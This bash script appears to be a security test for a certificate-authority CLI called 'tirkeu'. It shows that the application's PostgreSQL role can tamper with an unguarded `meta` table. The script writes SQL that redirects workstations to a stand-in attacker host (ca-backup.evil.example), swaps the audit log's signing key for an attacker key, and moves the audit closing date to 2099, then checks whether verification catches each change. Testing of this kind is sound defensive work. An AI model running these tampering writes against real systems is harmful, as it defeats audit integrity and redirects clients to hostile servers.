#!/usr/bin/env bash
CLI=${CLI:-/work/attack29/bin/tirkeu-cli}; export CLI
# PostgreSQL: the application role may write the `meta` table (no guard trigger): a false retirement mark that
# redirects every workstation, and the event log's signing key swapped for the attacker's. Exit 0.
if [ -z "${TIRKEU_TEST_PG:-}" ]; then exec /work/wt-lead/tests/pg/pg_server.sh bash "$(readlink -f "$0")" "$@"; fi
NAME=pg-meta; . "$(dirname "$0")/common.sh"
P="$PGHOST:$PGPORT"
psql -d postgres -q -c "CREATE DATABASE r1 OWNER tirkeu_owner" || exit 1
DB="postgresql://tirkeu_owner@$P/r1" staff >/dev/null || { cat $W/err; exit 1; }
DB="postgresql://tirkeu_owner@$P/r1" cli db init --app-role tirkeu_app; show $?
DB="postgresql://tirkeu_app@$P/r1"; APPURL=$DB
as admin ca add --code NCA --name "Attack Test CA" --kind national >/dev/null || { show $?; exit 1; }
echo "audit-Passphrase-2026" >$W/audit.pass; chmod 600 $W/audit.pass
as admin audit key init --key-out $W/audit.p8 --key-passphrase-file $W/audit.pass --public-out $W/audit-pub.pem; show $?
mkdir -p $W/anchors; as aud audit checkpoint --out $W/anchors --key-passphrase-file $W/audit.pass; show $?
as aud audit verify --anchors $W/anchors; say "verify before: rc=$? $(head -c 200 $W/out | tr '\n' ' ')"
say "A. false retirement mark written by the application role:"
printf '   %s\n' "$(psql "$APPURL" -X -q -t -A -c "INSERT INTO meta(key,value) VALUES ('moved_to','postgresql://tirkeu_app@ca-backup.evil.example/register')" 2>&1)"
as off1 crl status --ca NCA; say "read: rc=$?"
as admin operator lockout --max-failures 6; say "administrator's write: rc=$? $(head -c 400 $W/err)"
as aud audit verify; say "audit verify: rc=$? out=$(head -c 200 $W/out | tr '\n' ' ') err=$(head -c 200 $W/err | tr '\n' ' ')"
psql "$APPURL" -X -q -t -A -c "DELETE FROM meta WHERE key='moved_to'" >/dev/null
say "B. the event log's signing key replaced by the application role:"
openssl genpkey -algorithm EC -pkeyopt ec_paramgen_curve:P-256 -pass file:$W/audit.pass -aes256 -out $W/evil.p8 2>/dev/null
SPKI=$(openssl pkey -in $W/evil.p8 -passin file:$W/audit.pass -pubout -outform DER | base64 -w0)
psql "$APPURL" -X -q -t -A -c "SELECT key, left(value,60) FROM meta WHERE key like 'audit_key%'" | sed 's/^/   before: /'
printf '   %s\n' "$(psql "$APPURL" -X -q -t -A -c "UPDATE meta SET value='$SPKI' WHERE key='audit_key_spki'; UPDATE meta SET value='file:$W/evil.p8' WHERE key='audit_key_uri'" 2>&1)"
as aud audit verify; say "audit verify (no --anchors): rc=$? $(head -c 300 $W/out $W/err | tr '\n' ' ')"
as aud audit verify --anchors $W/anchors; say "audit verify --anchors (old, honest anchors): rc=$? $(head -c 300 $W/out $W/err | tr '\n' ' ')"
mkdir -p $W/anchors2; as aud audit checkpoint --out $W/anchors2 --key-passphrase-file $W/audit.pass; say "checkpoint now signed with: rc=$? $(head -c 300 $W/out $W/err | tr '\n' ' ')"
as aud audit verify --anchors $W/anchors2; say "audit verify --anchors anchors2: rc=$? $(head -c 300 $W/out $W/err | tr '\n' ' ')"
as aud audit verify --anchors $W/anchors2 --anchor-key $W/audit-pub.pem; say "with the kept key: rc=$? $(head -c 300 $W/out $W/err | tr '\n' ' ')"
say "C. the closed-day mark moved into 2099 by the application role:"
printf '   %s\n' "$(psql "$APPURL" -X -q -t -A -c "INSERT INTO meta(key,value) VALUES ('audit_signed_through','2099-12-31') ON CONFLICT (key) DO UPDATE SET value='2099-12-31'" 2>&1)"
as admin ca add --code GOV --name "Other CA" --kind government; show $?
psql "$APPURL" -X -q -t -A -c "SELECT seq, ts, event_type FROM audit_events ORDER BY seq DESC LIMIT 2" | sed 's/^/   event: /'
as aud audit verify; say "audit verify: rc=$? $(head -c 400 $W/out $W/err | tr '\n' ' ')"
as aud audit list --limit 2; head -4 $W/out | sed 's/^/   /'
psql "$APPURL" -X -q -t -A -c "DELETE FROM meta WHERE key='audit_signed_through'"; say "mark removed again; what do a new issuance and revocation get?"
as admin ca init --code NCA --key-algorithm p256 --key-out "$W/nca.p8" --passphrase-file "$W/ca.pass" --cert-out "$W/nca.pem" >/dev/null; pointers NCA >/dev/null
submit_approve >/dev/null; mkcsr $W/a.csr; issue $APP $W/a.csr $W/a.pem; echo "   issued $SERIAL: $(openssl x509 -in $W/a.pem -noout -startdate)"
as off1 certificate revoke --ca NCA --serial $SERIAL --reason key_compromise --basis holder_application --ca-passphrase-file $W/ca.pass; show $?
mkdir -p $W/pub; as off1 crl publish --ca NCA --out $W/pub --ca-passphrase-file $W/ca.pass; show $?
openssl crl -in $W/pub/NCA.crl -inform DER -noout -text | grep -E 'Last Update|Revocation Date' | sed 's/^/   CRL: /'
psql "$APPURL" -X -q -t -A -c "SELECT seq, ts, event_type FROM audit_events ORDER BY seq DESC LIMIT 3" | sed 's/^/   event: /'
as aud today; say "today (auditor): $(head -c 300 $W/out | tr '\n' ' ')"
exit 0
